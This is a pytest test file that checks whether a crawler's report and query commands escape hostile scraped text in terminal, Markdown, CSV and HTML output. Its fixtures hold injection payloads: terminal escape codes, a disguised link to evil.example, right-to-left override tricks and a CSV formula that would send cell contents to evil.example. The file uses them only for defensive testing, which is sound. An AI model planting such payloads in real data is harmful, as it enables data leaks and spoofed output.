"""Scraped text is data, never markup: hostile names and reasons in every rendering of
`report` and `query` (terminal table, Markdown, CSV, HTML), and the escaping functions."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, text
from typer.testing import CliRunner

from crawler import textsafe
from crawler.cli import app
from crawler.db.engine import make_engine, upgrade
from crawler.db.query import format_rows, run_query
from crawler.report import build_report, render
from crawler.report.render_text import render_table
from tests.conftest import write_config
from tests.test_report import DB

runner = CliRunner()
ESC = "\x1b"
CLEAR_SCREEN = f"{ESC}[2J{ESC}[H"
OSC8_LINK = f"{ESC}]8;;https://evil.example/{ESC}\\click here{ESC}]8;;{ESC}\\"
RICH_CRASH = "banned for [/spam] reasons"  # Rich raised MarkupError on a closing tag
RICH_LINK = "see [link=https://evil.example/]here[/link]"  # Rich silently made this a link
RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: "exe.txt" reads as "txt.exe"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1, "open")'


@pytest.fixture
def hostile(sqlite_engine: Engine) -> dict[str, Any]:
    """A report whose scraped strings try every trick: markup, escape codes, CR, bidi, formulas."""
    db = DB(sqlite_engine)
    now = datetime.now(UTC)
    sub = db.community(f"evil{CLEAR_SCREEN}name", status="banned")
    db.members(sub, [(now - timedelta(days=3), 100.0), (now - timedelta(hours=1), 90.0)])
    db.status(sub, now - timedelta(days=1), "active", "banned", f"{RICH_CRASH} {RICH_LINK} {OSC8_LINK}")
    other = db.community(f"{FORMULA}", platform="x", kind="query")
    db.status(other, now - timedelta(days=2), "active", "suspended", f"line one\rline two\x00{RLO}exe.txt")
    return build_report(sqlite_engine, since=timedelta(days=30))


def _no_control(out: str) -> None:
    for ch in out:
        assert ch in "\n" or not textsafe.has_control(ch), f"control character {ch!r} in the output"


def test_rich_markup_in_a_status_reason_is_printed_as_text_not_run(hostile: dict[str, Any]) -> None:
    out = render_table(hostile, width=400)
    assert "[/spam]" in out  # no MarkupError, and not swallowed
    assert "[link=https://evil.example/]here[/link]" in out  # not turned into a link


def test_terminal_escape_sequences_in_scraped_text_never_reach_the_terminal(hostile: dict[str, Any]) -> None:
    out = render_table(hostile, width=400)
    assert ESC not in out and "\r" not in out and RLO not in out and "\x00" not in out
    assert "evil\ufffd[2J\ufffd[Hname" in out  # shown, harmless
    _no_control(out)


def test_bare_cr_in_markdown_cell_cannot_start_a_heading_outside_the_table(hostile: dict[str, Any]) -> None:
    md = render(hostile, "md")
    assert "\r" not in md and ESC not in md and RLO not in md
    for line in md.split("\n"):
        assert not line.startswith("line two")
    assert "line one line two" in md


def test_html_strips_nul_esc_and_bidi_overrides_and_isolates_scraped_text(hostile: dict[str, Any]) -> None:
    html = render(hostile, "html")
    for ch in ("\x00", ESC, RLO, "\r"):
        assert ch not in html
    assert "<bdi>evil[2J[Hname</bdi>" in html
    assert "<bdi>line one" in html and "exe.txt</bdi>" in html


def _csv_rows(text: str) -> list[dict[str, str]]:
    """The CSV's rows, past the provenance comment line when there is one."""
    if text.startswith("#"):
        text = text.split("\n", 1)[1]
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_formula_in_a_scraped_name_is_written_as_text(hostile: dict[str, Any]) -> None:
    rows = _csv_rows(render(hostile, "csv"))
    handles = {r["handle"] for r in rows if r["section"] == "community"}
    assert "'" + FORMULA in handles and FORMULA not in handles
    raw = _csv_rows(render(hostile, "csv", csv_guard=False))
    assert FORMULA in {r["handle"] for r in raw if r["section"] == "community"}
    # A bare CR inside a field is quoted: the row is not split there.
    reasons = [r["reason"] for r in rows if r["section"] == "status_change"]
    assert any(r.startswith("line one\rline two") for r in reasons)
    # Numbers are not text: a negative delta stays a number.
    deltas = [r["delta_1d"] for r in rows if r["section"] == "community" and r["delta_1d"]]
    assert all(not d.startswith("'") for d in deltas)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cell_guards_every_formula_start(start: str) -> None:
    assert textsafe.csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert textsafe.csv_cell(f"{start}1+1", guard=False) == f"{start}1+1"
    assert textsafe.csv_cell(-5) == -5 and textsafe.csv_cell("a=b") == "a=b"


def test_textsafe_replaces_every_kind_of_control_character() -> None:
    hostile = "a\x00b\x1bc\x7fd\x85e\u2028f\u202eg\u2066h\u200fi\tj\nk"
    assert textsafe.terminal(hostile) == "a\ufffdb\ufffdc\ufffdd\ufffde f\ufffdg\ufffdh\ufffdi j k"
    assert textsafe.html_text(hostile) == "abcdefghi\tj\nk"
    assert textsafe.md_text(hostile) == "a b c d e f g h i j k"
    assert textsafe.bdi("<b>&") == "<bdi>&lt;b&gt;&amp;</bdi>"


# --------------------------------------------------------------------------- the CLI


def _hostile_db(tmp_path: Path) -> tuple[Path, dict[str, str], Engine]:
    url = f"sqlite:///{tmp_path / 'db.sqlite'}"
    engine = make_engine(url)
    upgrade(engine)
    db = DB(engine)
    now = datetime.now(UTC)
    cid = db.community(FORMULA, status="banned")
    db.members(cid, [(now - timedelta(hours=2), 5.0)])
    db.status(cid, now - timedelta(hours=1), "active", "banned", f"{RICH_CRASH} {OSC8_LINK}")
    cfg = write_config(tmp_path / "cfg", {})
    return cfg, {"DFWATCH_DATABASE_URL": url, "DFWATCH_PSEUDONYM_KEY": "k"}, engine


def _rows(engine: Engine) -> list[Any]:
    with engine.connect() as conn:
        return list(conn.execute(text("SELECT * FROM status_changes ORDER BY id")))


def test_report_table_with_markup_and_escape_codes_exits_0_and_prints_text(tmp_path: Path) -> None:
    cfg, env, engine = _hostile_db(tmp_path)
    before = _rows(engine)
    result = runner.invoke(app, ["report", "--config", str(cfg)], env=env)
    assert result.exit_code == 0, result.output
    assert "[/spam]" in result.output and ESC not in result.output
    result = runner.invoke(app, ["report", "--format", "csv", "--raw-csv", "--config", str(cfg)], env=env)
    assert f'"{FORMULA.replace(chr(34), chr(34) * 2)}"' in result.output
    assert _rows(engine) == before


def test_query_table_with_markup_and_escape_codes_in_rows_and_column_names(tmp_path: Path) -> None:
    cfg, env, engine = _hostile_db(tmp_path)
    before = _rows(engine)
    sql = 'select reason as "[bold]x[/bold]", reason from status_changes'
    result = runner.invoke(app, ["query", sql, "--config", str(cfg)], env=env)
    assert result.exit_code == 0, result.output
    assert "[bold]x[/bold]" in result.output and "[/spam]" in result.output
    assert ESC not in result.output
    result = runner.invoke(
        app, ["query", "select handle from communities", "--format", "csv", "--config", str(cfg)], env=env
    )
    assert result.output.splitlines()[1] == "\"'" + FORMULA.replace('"', '""') + '"'
    assert _rows(engine) == before


def test_query_table_caps_at_limit_and_says_how_to_get_every_row(tmp_path: Path) -> None:
    cfg, env, _engine = _hostile_db(tmp_path)
    sql = "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 30) SELECT n FROM r"
    result = runner.invoke(app, ["query", sql, "--limit", "10", "--config", str(cfg)], env=env)
    assert result.exit_code == 0, result.output
    assert "20 more rows not shown: the table stops at 10 rows" in result.output
    assert "--format csv" in result.output


def test_query_formats_json_values_in_table_cells(sqlite_engine: Engine, tmp_path: Path) -> None:
    out = io.StringIO()
    url = sqlite_engine.url.render_as_string(hide_password=False)
    format_rows(*run_query(url, f"select '{OSC8_LINK}' as t"), "table", out)
    assert ESC not in out.getvalue() and "click here" in out.getvalue()
